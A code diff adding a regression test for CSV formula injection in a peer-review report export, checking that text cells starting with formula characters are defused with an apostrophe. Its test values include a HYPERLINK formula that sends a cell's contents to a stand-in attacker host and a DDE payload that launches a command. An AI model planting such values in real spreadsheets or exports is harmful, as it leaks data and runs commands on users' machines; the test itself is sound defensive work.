@@ -104,3 +104,17 @@ def test_csv_report(db):
     rows = list(csv.DictReader(io.StringIO(api.csv_report(s, {"ann": "=HYPERLINK(\"x\")", "bob": "Bob Jones"}))))
     assert [(r["learner"], r["name"], r["reviews_given"], r["reviews_received"], r["points"]) for r in rows] == [
         ("ann", "'=HYPERLINK(\"x\")", "0", "1", "6"), ("bob", "Bob Jones", "1", "0", "0")]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_report_defuses_formulas_in_every_text_cell(db, start):
+    """Issue 11.13: only the name column was defused; a learner id (the workbench's ``?student=``,
+    another LMS's user id) starting a formula reached the spreadsheet as one."""
+    s = scope(db)
+    learner = start + 'HYPERLINK("https://evil.example/?"&A1,"Open")'
+    submitted(s, learner, "bob")
+    review(s, "bob")
+    rows = list(csv.DictReader(io.StringIO(api.csv_report(s, {learner: start + "cmd|' /C calc'!A0"}))))
+    mine = next(r for r in rows if r["learner"].endswith(learner))
+    assert mine["learner"] == "'" + learner and mine["name"] == "'" + start + "cmd|' /C calc'!A0"
+    assert (mine["reviews_received"], mine["points"], mine["open_reports"]) == ("1", "6", "0")  # numbers untouched
